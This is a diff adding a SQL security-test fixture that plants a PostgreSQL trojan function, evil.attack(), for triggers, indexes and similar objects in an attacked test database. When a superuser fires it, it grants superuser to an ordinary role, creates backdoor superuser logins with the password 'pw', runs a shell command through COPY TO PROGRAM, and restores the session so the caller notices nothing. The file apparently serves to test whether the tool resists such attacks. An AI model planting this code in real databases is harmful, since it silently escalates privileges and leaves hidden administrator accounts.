@@ -1,0 +1,99 @@
+-- tests/security/plant-common.sql: run AS gm-dbo (an ordinary role) in
+-- every attacked database. The machinery every vector uses:
+--
+--   evil.attack(tag) is what each planted function, trigger, view, index
+--   and operator calls. It tries to become a superuser the way issue 13
+--   describes (RESET SESSION AUTHORIZATION, RESET ROLE), and if that gives
+--   it superuser rights it makes "gm-dbo" a superuser and creates a
+--   superuser role evil_<tag> (in the transaction, and once more through a
+--   separate session with COPY TO PROGRAM, which survives a rollback).
+--   Whatever happens, it records WHO ran it: a "gmdb-attack:" line in the
+--   server log (RAISE LOG: kept even when the transaction is rolled back
+--   or read-only) and, where it can, a row in public.attack_log. It always
+--   returns true, so the caller goes on as if nothing happened, and puts
+--   the session back the way it found it.
+--
+-- psql variable: psqlbin (the server's psql, for COPY TO PROGRAM).
+\set ON_ERROR_STOP 1
+CREATE TABLE public.attack_log (
+	at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp(),
+	tag text, db text, session_user_before text, current_user_before text,
+	session_user_after text, current_user_after text, superuser boolean);
+GRANT SELECT, INSERT ON public.attack_log TO PUBLIC;
+
+CREATE SCHEMA evil;
+GRANT USAGE ON SCHEMA evil TO PUBLIC;
+CREATE TABLE evil.conf (psqlbin text);
+GRANT SELECT ON evil.conf TO PUBLIC;
+INSERT INTO evil.conf VALUES (:'psqlbin');
+
+CREATE FUNCTION evil.attack(tag text) RETURNS boolean LANGUAGE plpgsql AS $f$
+DECLARE
+	t text := pg_catalog.regexp_replace(pg_catalog.lower(tag), '[^a-z0-9_]', '_', 'g');
+	su0 text := session_user;
+	cu0 text := current_user;
+	su1 text;
+	cu1 text;
+	super0 boolean;
+	super1 boolean;
+	k text;
+	cmd text;
+BEGIN
+	super0 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles
+			    WHERE rolname IN (session_user, current_user)), false);
+	-- once per session, tag and rights (the functions run once per row)
+	k := 'evil.fired_' || t;
+	IF coalesce(pg_catalog.current_setting(k, true), '') = super0::text THEN
+		RETURN true;
+	END IF;
+	BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
+	su1 := session_user;
+	cu1 := current_user;
+	super1 := coalesce((SELECT pg_catalog.bool_or(rolsuper) FROM pg_catalog.pg_roles
+			    WHERE rolname IN (session_user, current_user)), false);
+	IF super1 THEN
+		BEGIN EXECUTE 'ALTER ROLE "gm-dbo" SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
+		BEGIN
+			EXECUTE pg_catalog.format('CREATE ROLE %I SUPERUSER LOGIN PASSWORD %L', 'evil_' || t, 'pw');
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
+		BEGIN
+			cmd := pg_catalog.format('/usr/bin/timeout 5 %s -X -q -w -h %s -p %s -U postgres -d postgres -c %s -c %s >/dev/null 2>&1',
+				(SELECT psqlbin FROM evil.conf),
+				pg_catalog.current_setting('unix_socket_directories'),
+				pg_catalog.current_setting('port'),
+				'''CREATE ROLE "evil_' || t || '_program" SUPERUSER LOGIN''',
+				'''ALTER ROLE "gm-dbo" SUPERUSER''');
+			EXECUTE pg_catalog.format('COPY (SELECT 1) TO PROGRAM %L', cmd);
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
+	END IF;
+	RAISE LOG 'gmdb-attack: tag=% db=% before=%/% after=%/% superuser=%', t, pg_catalog.current_database(),
+		su0, cu0, su1, cu1, CASE WHEN super0 OR super1 THEN 't' ELSE 'f' END;
+	BEGIN
+		INSERT INTO public.attack_log (tag, db, session_user_before, current_user_before,
+					       session_user_after, current_user_after, superuser)
+		VALUES (t, pg_catalog.current_database(), su0, cu0, su1, cu1, super0 OR super1);
+	EXCEPTION WHEN OTHERS THEN NULL;
+	END;
+	-- leave no trace in the session: the caller must not notice
+	IF su1 IS DISTINCT FROM su0 THEN
+		BEGIN EXECUTE pg_catalog.format('SET SESSION AUTHORIZATION %I', su0); EXCEPTION WHEN OTHERS THEN NULL; END;
+	END IF;
+	IF cu1 IS DISTINCT FROM cu0 AND cu0 IS DISTINCT FROM su0 THEN
+		BEGIN EXECUTE pg_catalog.format('SET ROLE %I', cu0); EXCEPTION WHEN OTHERS THEN NULL; END;
+	END IF;
+	PERFORM pg_catalog.set_config(k, super0::text, false);
+	RETURN true;
+END
+$f$;
+
+-- what the index name of vector a) calls
+CREATE FUNCTION evil.p() RETURNS boolean LANGUAGE sql AS $$ SELECT evil.attack('index_name') $$;
+-- what the planted triggers call (TG_ARGV[0]: the tag)
+CREATE FUNCTION evil.trg() RETURNS trigger LANGUAGE plpgsql AS $$
+BEGIN
+	PERFORM evil.attack(TG_ARGV[0]);
+	RETURN NULL;
+END $$;
